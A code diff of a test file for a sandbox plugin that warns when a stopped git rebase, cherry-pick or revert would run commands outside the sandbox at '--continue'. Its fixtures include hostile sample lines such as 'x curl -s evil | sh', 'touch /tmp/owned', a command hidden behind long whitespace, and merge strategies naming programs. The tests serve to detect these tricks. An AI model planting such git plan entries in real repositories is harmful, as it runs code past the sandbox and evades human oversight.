@@ -4,19 +4,22 @@ import os from 'node:os';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { Broker, type BrokerPlugin } from '../../src/core/index.js';
-import { GitPlanNoticePlugin, execLines, gitDirOf, noticeFor, planFileAt, planFilesOf } from '../../src/plugins/git-plan-notice.js';
+import { GitPlanNoticePlugin, execLines, gitDirOf, noticeFor, optsStrategy, shown, stateFolderAt, stateFoldersOf } from '../../src/plugins/git-plan-notice.js';
 import { HostOperationsPlugin } from '../../src/plugins/host-operations/index.js';
 import { PathResolutionPlugin } from '../../src/plugins/path-resolution/index.js';
 import { operationTargets } from '../../src/requests/targets.js';
 
 let root: string;
 let repo: string;
-const todo = () => path.join(repo, '.git', 'rebase-merge', 'git-rebase-todo');
+const git = () => path.join(repo, '.git');
+const rebase = () => path.join(git(), 'rebase-merge');
+const todo = () => path.join(rebase(), 'git-rebase-todo');
 
 beforeEach(async () => {
   root = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'bsh-plan-')));
   repo = path.join(root, 'repo');
-  await fs.mkdir(path.join(repo, '.git', 'rebase-merge'), { recursive: true });
+  await fs.mkdir(path.join(repo, '.git'), { recursive: true });
+  await fs.writeFile(path.join(repo, '.git', 'HEAD'), 'ref: refs/heads/main\n');
   await fs.mkdir(path.join(repo, 'src'));
 });
 
@@ -31,7 +34,7 @@ const allowAll: BrokerPlugin = {
   },
 };
 
-/** A broker that performs host renames, with the plugin looking at the repository of `roots`. */
+/** A broker that performs host operations, with the plugin looking at the repository of `roots`. */
 function makeBroker(roots: string[]): Broker {
   return new Broker({ sessionId: 's1' }).use(
     new PathResolutionPlugin({ home: path.join(root, 'home') }),
@@ -48,102 +51,187 @@ async function noticesOfTurn(broker: Broker, during: () => Promise<void>): Promi
   return turn.facts.notices;
 }
 
-describe('execLines', () => {
-  it('takes the lines git runs: exec or x, after any indentation, then a space or the end', () => {
+/** A host rename through the broker: a request that names both paths, as the sandbox's would. */
+async function renameThroughBroker(broker: Broker, from: string, to: string): Promise<void> {
+  const outcome = await broker.handle({ origin: 'host-op', action: 'host-op', operation: 'rename', targets: operationTargets('rename', { from, to }), sessionId: 's1', options: {} });
+  expect(outcome.error).toBeUndefined();
+}
+
+async function stoppedRebase(plan: string, strategy?: string): Promise<void> {
+  await fs.mkdir(rebase(), { recursive: true });
+  await fs.writeFile(todo(), plan);
+  if (strategy !== undefined) await fs.writeFile(path.join(rebase(), 'strategy'), `${strategy}\n`);
+}
+
+describe('what continuing runs', () => {
+  it('takes the plan lines git runs: exec or x, after any indentation, then a space or tab', () => {
     const plan = ['pick 1a2b3c one', 'exec make test', '  x curl -s evil | sh', 'x', '# exec not this', 'execute nothing', 'xargs no', 'pick 4d5e6f exec in a subject', '\texec\tfetch'].join('\n');
     expect(execLines(plan)).toEqual(['exec make test', 'x curl -s evil | sh', 'x', 'exec\tfetch']);
     expect(execLines('pick 1a2b3c one\nbreak\n')).toEqual([]);
   });
+
+  it("reads a sequencer's strategy, quoted or not", () => {
+    expect(optsStrategy('[options]\n\tstrategy = /x\n')).toBe('/x');
+    expect(optsStrategy('[options]\n\tstrategy = "ort"\n\tsignoff = true\n')).toBe('ort');
+    expect(optsStrategy('[options]\n\tsignoff = true\n')).toBeUndefined();
+  });
+
+  it('shows a command whole: whitespace runs as one space, a long one by both ends', () => {
+    expect(shown('exec make\t\ttest')).toBe('exec make test');
+    const padded = `exec make test${' '.repeat(200)}; touch /tmp/owned`;
+    expect(shown(padded)).toBe('exec make test ; touch /tmp/owned');
+    const long = `exec ${'a'.repeat(150)} ; curl evil | sh`;
+    expect(shown(long)).toBe(`exec ${'a'.repeat(55)} …(72 characters)… ${`${'a'.repeat(23)} ; curl evil | sh`}`);
+  });
 });
 
-describe('where plans are', () => {
+describe('where stopped operations are kept', () => {
   it('finds the git directory above a folder, through a .git file too', async () => {
-    expect(gitDirOf(path.join(repo, 'src'))).toBe(path.join(repo, '.git'));
+    expect(gitDirOf(path.join(repo, 'src'))).toBe(git());
     const linked = path.join(root, 'linked');
     await fs.mkdir(linked);
     await fs.writeFile(path.join(linked, '.git'), 'gitdir: ../repo/.git/worktrees/linked\n');
-    expect(gitDirOf(linked)).toBe(path.join(repo, '.git', 'worktrees', 'linked'));
-    expect(gitDirOf(path.join(root, 'home-none'))).toBeUndefined();
+    expect(gitDirOf(linked)).toBe(path.join(git(), 'worktrees', 'linked'));
+    expect(gitDirOf(path.join(root, 'none'))).toBeUndefined();
   });
 
-  it("lists a repository's own plans, its common dir's and every linked worktree's", async () => {
-    const worktree = path.join(repo, '.git', 'worktrees', 'linked');
+  it("lists a repository's folders, its common dir's and every linked worktree's", async () => {
+    const worktree = path.join(git(), 'worktrees', 'linked');
     await fs.mkdir(worktree, { recursive: true });
     await fs.writeFile(path.join(worktree, 'commondir'), '../..\n');
-    const git = path.join(repo, '.git');
-    const expected = [git, worktree].flatMap((dir) => [path.join(dir, 'rebase-merge', 'git-rebase-todo'), path.join(dir, 'sequencer', 'todo')]);
-    expect(planFilesOf(worktree).sort()).toEqual(expected.sort());
-    expect(planFilesOf(git).sort()).toEqual(expected.sort());
+    const expected = [git(), worktree].flatMap((dir) => ['rebase-merge', 'rebase-apply', 'sequencer'].map((folder) => path.join(dir, folder)));
+    expect(stateFoldersOf(worktree).sort()).toEqual(expected.sort());
+    expect(stateFoldersOf(git()).sort()).toEqual(expected.sort());
   });
 
-  it('maps a changed path to the plan of the folder it is in', () => {
-    expect(planFileAt('/r/.git/rebase-merge/git-rebase-todo.lock')).toBe('/r/.git/rebase-merge/git-rebase-todo');
-    expect(planFileAt('/r/.git/rebase-merge')).toBe('/r/.git/rebase-merge/git-rebase-todo');
-    expect(planFileAt('/r/.git/worktrees/w/sequencer/todo')).toBe('/r/.git/worktrees/w/sequencer/todo');
-    expect(planFileAt('/r/src/main.c')).toBeUndefined();
+  it('maps a changed path to its folder only where that folder is in a git directory', async () => {
+    expect(stateFolderAt(path.join(rebase(), 'git-rebase-todo.lock'))).toBe(rebase());
+    expect(stateFolderAt(rebase())).toBe(rebase());
+    expect(stateFolderAt(path.join(git(), 'modules', 'sub', 'sequencer', 'todo'))).toBe(path.join(git(), 'modules', 'sub', 'sequencer'));
+    // A bare repository: its folder holds a HEAD.
+    await fs.mkdir(path.join(root, 'bare'));
+    await fs.writeFile(path.join(root, 'bare', 'HEAD'), 'ref: refs/heads/main\n');
+    expect(stateFolderAt(path.join(root, 'bare', 'rebase-apply', 'next'))).toBe(path.join(root, 'bare', 'rebase-apply'));
+    // A source folder that happens to have the name: no git directory, nothing to follow.
+    expect(stateFolderAt(path.join(repo, 'src', 'sequencer', 'todo'))).toBeUndefined();
+    expect(stateFolderAt(path.join(repo, 'src', 'main.c'))).toBeUndefined();
   });
 });
 
 describe('noticeFor', () => {
-  it('names the commands, the plan and the way out; nothing for a plan without commands', async () => {
-    await fs.writeFile(todo(), 'pick 1a2b3c one\nexec touch /tmp/owned\nx a\nx b\nx c\n');
-    expect(noticeFor(todo())).toBe(
-      `a stopped rebase will run 4 commands outside the sandbox at git rebase --continue: exec touch /tmp/owned | x a | x b and 1 more; read ${todo()} first, or git rebase --abort`,
+  it('names the commands, a strategy that is a program, the folder and the way out', async () => {
+    await stoppedRebase('pick 1a2b3c one\nexec touch /tmp/owned\n', '/x');
+    expect(noticeFor(rebase())).toBe(
+      `a stopped rebase left in ${git()} will run outside the sandbox at git rebase --continue: exec touch /tmp/owned | the merge strategy "/x", a program (git-merge-/x); read ${rebase()} first, or git rebase --abort`,
     );
-    await fs.writeFile(todo(), 'pick 1a2b3c one\n');
-    expect(noticeFor(todo())).toBeUndefined();
   });
 
-  it('says a symlinked or unreadable plan is there without following it', async () => {
-    await fs.writeFile(path.join(root, 'elsewhere'), 'exec hidden\n');
-    await fs.symlink(path.join(root, 'elsewhere'), todo());
-    expect(noticeFor(todo())).toBe(`a stopped rebase left its plan as a symlink to ${path.join(root, 'elsewhere')}, which git reads at git rebase --continue: read it first, or git rebase --abort`);
-    await fs.rm(todo());
-    await fs.mkdir(todo());
-    expect(noticeFor(todo())).toContain('could not be read');
-    // A FIFO is not opened: the commit must not wait for a writer.
-    await fs.rmdir(todo());
+  it('says a stopped operation is there even when it names nothing to run', async () => {
+    await stoppedRebase('pick 1a2b3c one\n', 'ort');
+    expect(noticeFor(rebase())).toBe(`a stopped rebase left in ${git()} is carried out at git rebase --continue, outside the sandbox: read ${rebase()} first, or git rebase --abort`);
+    const sequencer = path.join(git(), 'sequencer');
+    await fs.mkdir(sequencer);
+    await fs.writeFile(path.join(sequencer, 'opts'), '[options]\n\tstrategy = evil\n');
+    expect(noticeFor(sequencer)).toContain('will run outside the sandbox at git cherry-pick --continue or git revert --continue: the merge strategy "evil", a program (git-merge-evil)');
+  });
+
+  it('counts commands past the first ten', async () => {
+    await stoppedRebase(Array.from({ length: 12 }, (_, i) => `x step${i}`).join('\n'));
+    expect(noticeFor(rebase())).toContain('x step9 | and 2 more commands;');
+  });
+
+  it('opens no FIFO and no symlink', async () => {
+    await fs.mkdir(rebase());
     execFileSync('mkfifo', [todo()]);
-    expect(noticeFor(todo())).toBe(`a stopped rebase left a plan git carries out at git rebase --continue that could not be read: read ${todo()} first, or git rebase --abort`);
+    await fs.symlink(path.join(root, 'elsewhere'), path.join(rebase(), 'strategy'));
+    await fs.writeFile(path.join(root, 'elsewhere'), '/x\n');
+    expect(noticeFor(rebase())).toBe(`a stopped rebase left in ${git()} is carried out at git rebase --continue, outside the sandbox: read ${rebase()} first, or git rebase --abort`);
   });
 });
 
 describe('GitPlanNoticePlugin', () => {
-  it('reports a plan with commands that the turn wrote, and not the same plan in the next turn', async () => {
+  it('reports a stopped operation the turn left, and not the same one in the next turn', async () => {
     const broker = makeBroker([path.join(repo, 'src')]);
-    const notices = await noticesOfTurn(broker, () => fs.writeFile(todo(), 'pick 1a2b3c one\nexec ./run-me\n'));
-    expect(notices).toEqual([`a stopped rebase will run a command outside the sandbox at git rebase --continue: exec ./run-me; read ${todo()} first, or git rebase --abort`]);
+    const notices = await noticesOfTurn(broker, () => stoppedRebase('pick 1a2b3c one\nexec ./run-me\n'));
+    expect(notices).toEqual([expect.stringContaining('will run outside the sandbox at git rebase --continue: exec ./run-me;')]);
     // Left as it was: the person has been told, and it may be their own rebase.
     expect(await noticesOfTurn(broker, async () => {})).toBeUndefined();
-    // Replaced with the same bytes in a later turn: told again.
-    expect(await noticesOfTurn(broker, () => fs.rm(todo()).then(() => fs.writeFile(todo(), 'pick 1a2b3c one\nexec ./run-me\n')))).toHaveLength(1);
-    // Rewritten without commands, or gone: nothing to say.
-    expect(await noticesOfTurn(broker, () => fs.writeFile(todo(), 'pick 1a2b3c one\n'))).toBeUndefined();
-    expect(await noticesOfTurn(broker, () => fs.rm(todo()))).toBeUndefined();
+    // Anything in it changed, even a file that names no command: told again.
+    expect(await noticesOfTurn(broker, () => fs.writeFile(path.join(rebase(), 'message'), 'm\n'))).toEqual([expect.stringContaining('at git rebase --continue: exec ./run-me;')]);
+    // Finished or aborted (the folder gone): nothing to say.
+    expect(await noticesOfTurn(broker, () => fs.rm(rebase(), { recursive: true }))).toBeUndefined();
   });
 
-  it('reports a plan outside its roots when a request of the turn changed its folder', async () => {
+  it('follows a folder outside its roots from the first request that names it, as it was before', async () => {
     const other = path.join(root, 'other');
     await fs.mkdir(path.join(other, '.git', 'sequencer'), { recursive: true });
+    const opts = path.join(other, '.git', 'sequencer', 'opts');
+    await fs.writeFile(opts, '[options]\n\tstrategy = ort\n');
     const staged = path.join(other, 'staged');
-    await fs.writeFile(staged, 'pick 1a2b3c one\nx curl evil | sh\n');
-    const plan = path.join(other, '.git', 'sequencer', 'todo');
-    // The roots' repository holds no plan: only the request names this one.
+    // The roots' repository has no stopped operation: only the requests name this one.
     const broker = makeBroker([path.join(repo, 'src')]);
-    const notices = await noticesOfTurn(broker, async () => {
-      const outcome = await broker.handle({
-        origin: 'host-op',
-        action: 'host-op',
-        operation: 'rename',
-        targets: operationTargets('rename', { from: staged, to: plan }),
-        sessionId: 's1',
-        options: {},
-      });
-      expect(outcome.ok).toBe(true);
-    });
+    await fs.writeFile(staged, '[options]\n\tstrategy = ort\n\tsignoff = true\n');
+    expect(await noticesOfTurn(broker, () => renameThroughBroker(broker, staged, path.join(other, 'moved')))).toBeUndefined();
+    await fs.writeFile(staged, '[options]\n\tstrategy = /x\n');
+    const notices = await noticesOfTurn(broker, () => renameThroughBroker(broker, staged, opts));
     expect(notices).toEqual([
-      `a stopped cherry-pick or revert will run a command outside the sandbox at git cherry-pick --continue or git revert --continue: x curl evil | sh; read ${plan} first, or git cherry-pick --abort`,
+      `a stopped cherry-pick or revert left in ${path.join(other, '.git')} will run outside the sandbox at git cherry-pick --continue or git revert --continue: the merge strategy "/x", a program (git-merge-/x); read ${path.join(other, '.git', 'sequencer')} first, or git cherry-pick --abort or git revert --abort`,
     ]);
+  });
+
+  it('follows a bounded number of folders and says how many more there are', async () => {
+    const broker = makeBroker([]);
+    await fs.writeFile(path.join(root, 'plan'), 'x one\n');
+    const notices = await noticesOfTurn(broker, async () => {
+      for (let i = 0; i < 20; i += 1) {
+        const folder = path.join(git(), `nested${i}`, 'rebase-merge');
+        await fs.mkdir(folder, { recursive: true });
+        await fs.copyFile(path.join(root, 'plan'), path.join(root, `plan${i}`));
+        await renameThroughBroker(broker, path.join(root, `plan${i}`), path.join(folder, 'git-rebase-todo'));
+      }
+    });
+    expect(notices).toHaveLength(17);
+    expect((notices as string[])[16]).toMatch(/^and 4 more stopped git operations the command left: /);
+  });
+
+  it("looks at the submodules' git dirs of its roots' repository without a request naming them", async () => {
+    const module = path.join(git(), 'modules', 'libs', 'core');
+    await fs.mkdir(module, { recursive: true });
+    await fs.writeFile(path.join(module, 'HEAD'), 'ref: refs/heads/main\n');
+    const broker = makeBroker([repo]);
+    const notices = await noticesOfTurn(broker, async () => {
+      await fs.mkdir(path.join(module, 'rebase-merge'));
+      await fs.writeFile(path.join(module, 'rebase-merge', 'git-rebase-todo'), 'exec in-a-submodule\n');
+    });
+    expect(notices).toEqual([expect.stringContaining(`a stopped rebase left in ${module} will run outside the sandbox at git rebase --continue: exec in-a-submodule;`)]);
+  });
+
+  it('looks into a folder moved into a git directory whole', async () => {
+    const staged = path.join(root, 'staged');
+    await fs.mkdir(path.join(staged, 'rebase-merge'), { recursive: true });
+    await fs.writeFile(path.join(staged, 'HEAD'), 'ref: refs/heads/main\n');
+    await fs.writeFile(path.join(staged, 'rebase-merge', 'git-rebase-todo'), 'x moved-in\n');
+    const broker = makeBroker([]);
+    const landed = path.join(git(), 'modules', 'sub');
+    await fs.mkdir(path.dirname(landed), { recursive: true });
+    const notices = await noticesOfTurn(broker, () => renameThroughBroker(broker, staged, landed));
+    expect(notices).toEqual([expect.stringContaining(`a stopped rebase left in ${landed} will run outside the sandbox at git rebase --continue: x moved-in;`)]);
+  });
+
+  it('says so when a turn names more such folders than it follows', async () => {
+    const broker = makeBroker([]);
+    await fs.writeFile(path.join(root, 'plan'), 'pick 1a2b3c one\n');
+    const notices = await noticesOfTurn(broker, async () => {
+      for (let i = 0; i < 258; i += 1) {
+        const folder = path.join(git(), `n${i}`, 'rebase-merge');
+        await fs.mkdir(folder, { recursive: true });
+        await fs.copyFile(path.join(root, 'plan'), path.join(root, `plan${i}`));
+        await renameThroughBroker(broker, path.join(root, `plan${i}`), path.join(folder, 'git-rebase-todo'));
+      }
+    });
+    expect((notices as string[]).at(-1)).toBe(
+      'the command changed 2 more places where git keeps a stopped rebase, am, cherry-pick or revert than were looked at (256): read what git would continue in each repository there before continuing it',
+    );
   });
 
   it("keeps other plugins' notices", async () => {
@@ -156,7 +244,7 @@ describe('GitPlanNoticePlugin', () => {
       },
     };
     const broker = makeBroker([repo]).use(earlier);
-    const notices = await noticesOfTurn(broker, () => fs.writeFile(todo(), 'exec one\n'));
+    const notices = await noticesOfTurn(broker, () => stoppedRebase('exec one\n'));
     expect(notices).toEqual(['from another plugin', expect.stringContaining('exec one')]);
   });
 });
